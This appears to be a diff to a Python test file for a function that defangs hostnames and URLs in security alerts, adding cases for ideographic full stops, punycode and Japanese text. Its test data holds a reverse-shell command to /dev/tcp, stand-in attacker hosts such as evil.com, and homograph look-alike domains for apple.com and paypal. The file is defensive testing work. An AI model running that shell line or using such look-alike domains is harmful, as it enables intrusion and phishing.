@@ -142,6 +142,26 @@ HOSTILE: dict[str, Expect] = {
         single=("open [\\\\]3232235777\\share or [\\\\]evil\\share", "[\\\\]fileserver[.]corp\\x"),
         grouped=("open [\\\\]3232235777\\share or [\\\\]evil\\share",),
     ),
+    "idn_ideographic_stop": Expect(
+        forbidden=("\u3002\u0441om", "\u043f\u0440\u0438\u043c\u0435\u0440\u3002", "\uff61\u043f"),
+        single=(
+            "paypal[.]xn--om-nmc and xn--e1afmkfd[.]xn--p1ai and hxxps[://]xn--e1afmkfd[.]xn--p1ai/x",
+            "www[.]xn--e1afmkfd[.]xn--p1ai",
+        ),
+        grouped=("paypal[.]xn--om-nmc and xn--e1afmkfd[.]xn--p1ai and hxxps[://]xn--e1afmkfd[.]xn--p1ai/x",),
+    ),
+    "readable_japanese": Expect(
+        # Japanese stays readable: no punycode for Japanese labels, no defanged file name in a path
+        forbidden=("xn--", "写真[.]jpg", "Chrome/120.0.0[.]0"),
+        single=(
+            "ログはCloudTrail[.]Athenaで確認しました。次はGuardDutyです",
+            "uploads/写真.jpg",
+            "東京リージョン[.]本番",
+            "請求書[.]pdf を開きました",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
+        ),
+        grouped=("ログはCloudTrail[.]Athenaで確認しました。次はGuardDutyです",),
+    ),
     "readable": Expect(
         forbidden=("AnomalousBehavior[.]", "libc[.]so", "m5[.]large", "payload[.]sh", "13[.]6", "00[.]000Z"),
         single=(
@@ -241,6 +261,12 @@ def test_resource_identifiers_are_defanged_in_the_subject_and_atop_both_bodies(n
             "hxxps[://]evil[.]com",
         ),
         ("\u0430pple.com", "xn--pple-43d[.]com"),
+        # ... the ideographic full stop too, between any labels but two Japanese ones
+        ("paypal\u3002\u0441om", "paypal[.]xn--om-nmc"),
+        ("\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444", "xn--e1afmkfd[.]xn--p1ai"),
+        ("www\uff61\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444", "www[.]xn--e1afmkfd[.]xn--p1ai"),
+        ("https://\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444/x", "hxxps[://]xn--e1afmkfd[.]xn--p1ai/x"),
+        ("\u3042.\u0430pple.com", "\u3042[.]xn--pple-43d[.]com"),  # a label that can pass for Latin: punycode
         ("b\u00fccher.example", "xn--bcher-kva[.]example"),
         ("i\u2764.ws", "xn--i-7iq[.]ws"),
         # schemes
@@ -276,7 +302,14 @@ def test_resource_identifiers_are_defanged_in_the_subject_and_atop_both_bodies(n
         # a user agent's four-part version is no address; an address after a path still is
         ("Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36", "Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36"),
         ("bash -i >& /dev/tcp/198.51.100.66/4444", "bash -i >& /dev/tcp/198.51.100[.]66/4444"),
-        ("しました。AWS", "しました。AWS"),  # Japanese prose: the ideographic full stop ends a sentence
+        # Japanese: a full stop between Japanese words ends a sentence; one beside Latin letters
+        # may be a host's dot and is defanged, but Japanese labels are shown as written
+        ("確認しました。次へ", "確認しました。次へ"),
+        ("しました。AWS", "しました[.]AWS"),
+        ("ログはCloudTrail。Athenaで確認", "ログはCloudTrail[.]Athenaで確認"),
+        ("写真.jpg 請求書.pdf 東京リージョン.本番", "写真[.]jpg 請求書[.]pdf 東京リージョン[.]本番"),
+        ("한국어.kr", "한국어[.]kr"),
+        ("Chrome/120.0.0.0", "Chrome/120.0.0.0"),
     ],
 )
 def test_defang_tells_hostnames_and_urls_from_types_paths_and_versions(raw, expected):
@@ -292,6 +325,7 @@ def test_defang_tells_hostnames_and_urls_from_types_paths_and_versions(raw, expe
         ("./x/a.sh, ~/bin/run.py, ../lib/x.so", "./x/a.sh, ~/bin/run.py, ../lib/x.so"),
         ("scriptPath=/tmp/x/evil.sh", "scriptPath=/tmp/x/evil.sh"),
         ("uploads/invoice.pdf", "uploads/invoice.pdf"),  # an S3 object key: rooted at its bucket
+        ("uploads/写真.jpg, uploads/r\u00e9sum\u00e9.docx", "uploads/写真.jpg, uploads/r\u00e9sum\u00e9.docx"),
         # ... never a directory, a name without one, a www host, or a host before whitespace
         ("/tmp/www.evil.com/x", "/tmp/www[.]evil[.]com/x"),  # noqa: S108
         ("./a.sh, ~/run.py, /evil.page, C:/www.evil.com", "./a[.]sh, ~/run[.]py, /evil[.]page, C:/www[.]evil[.]com"),
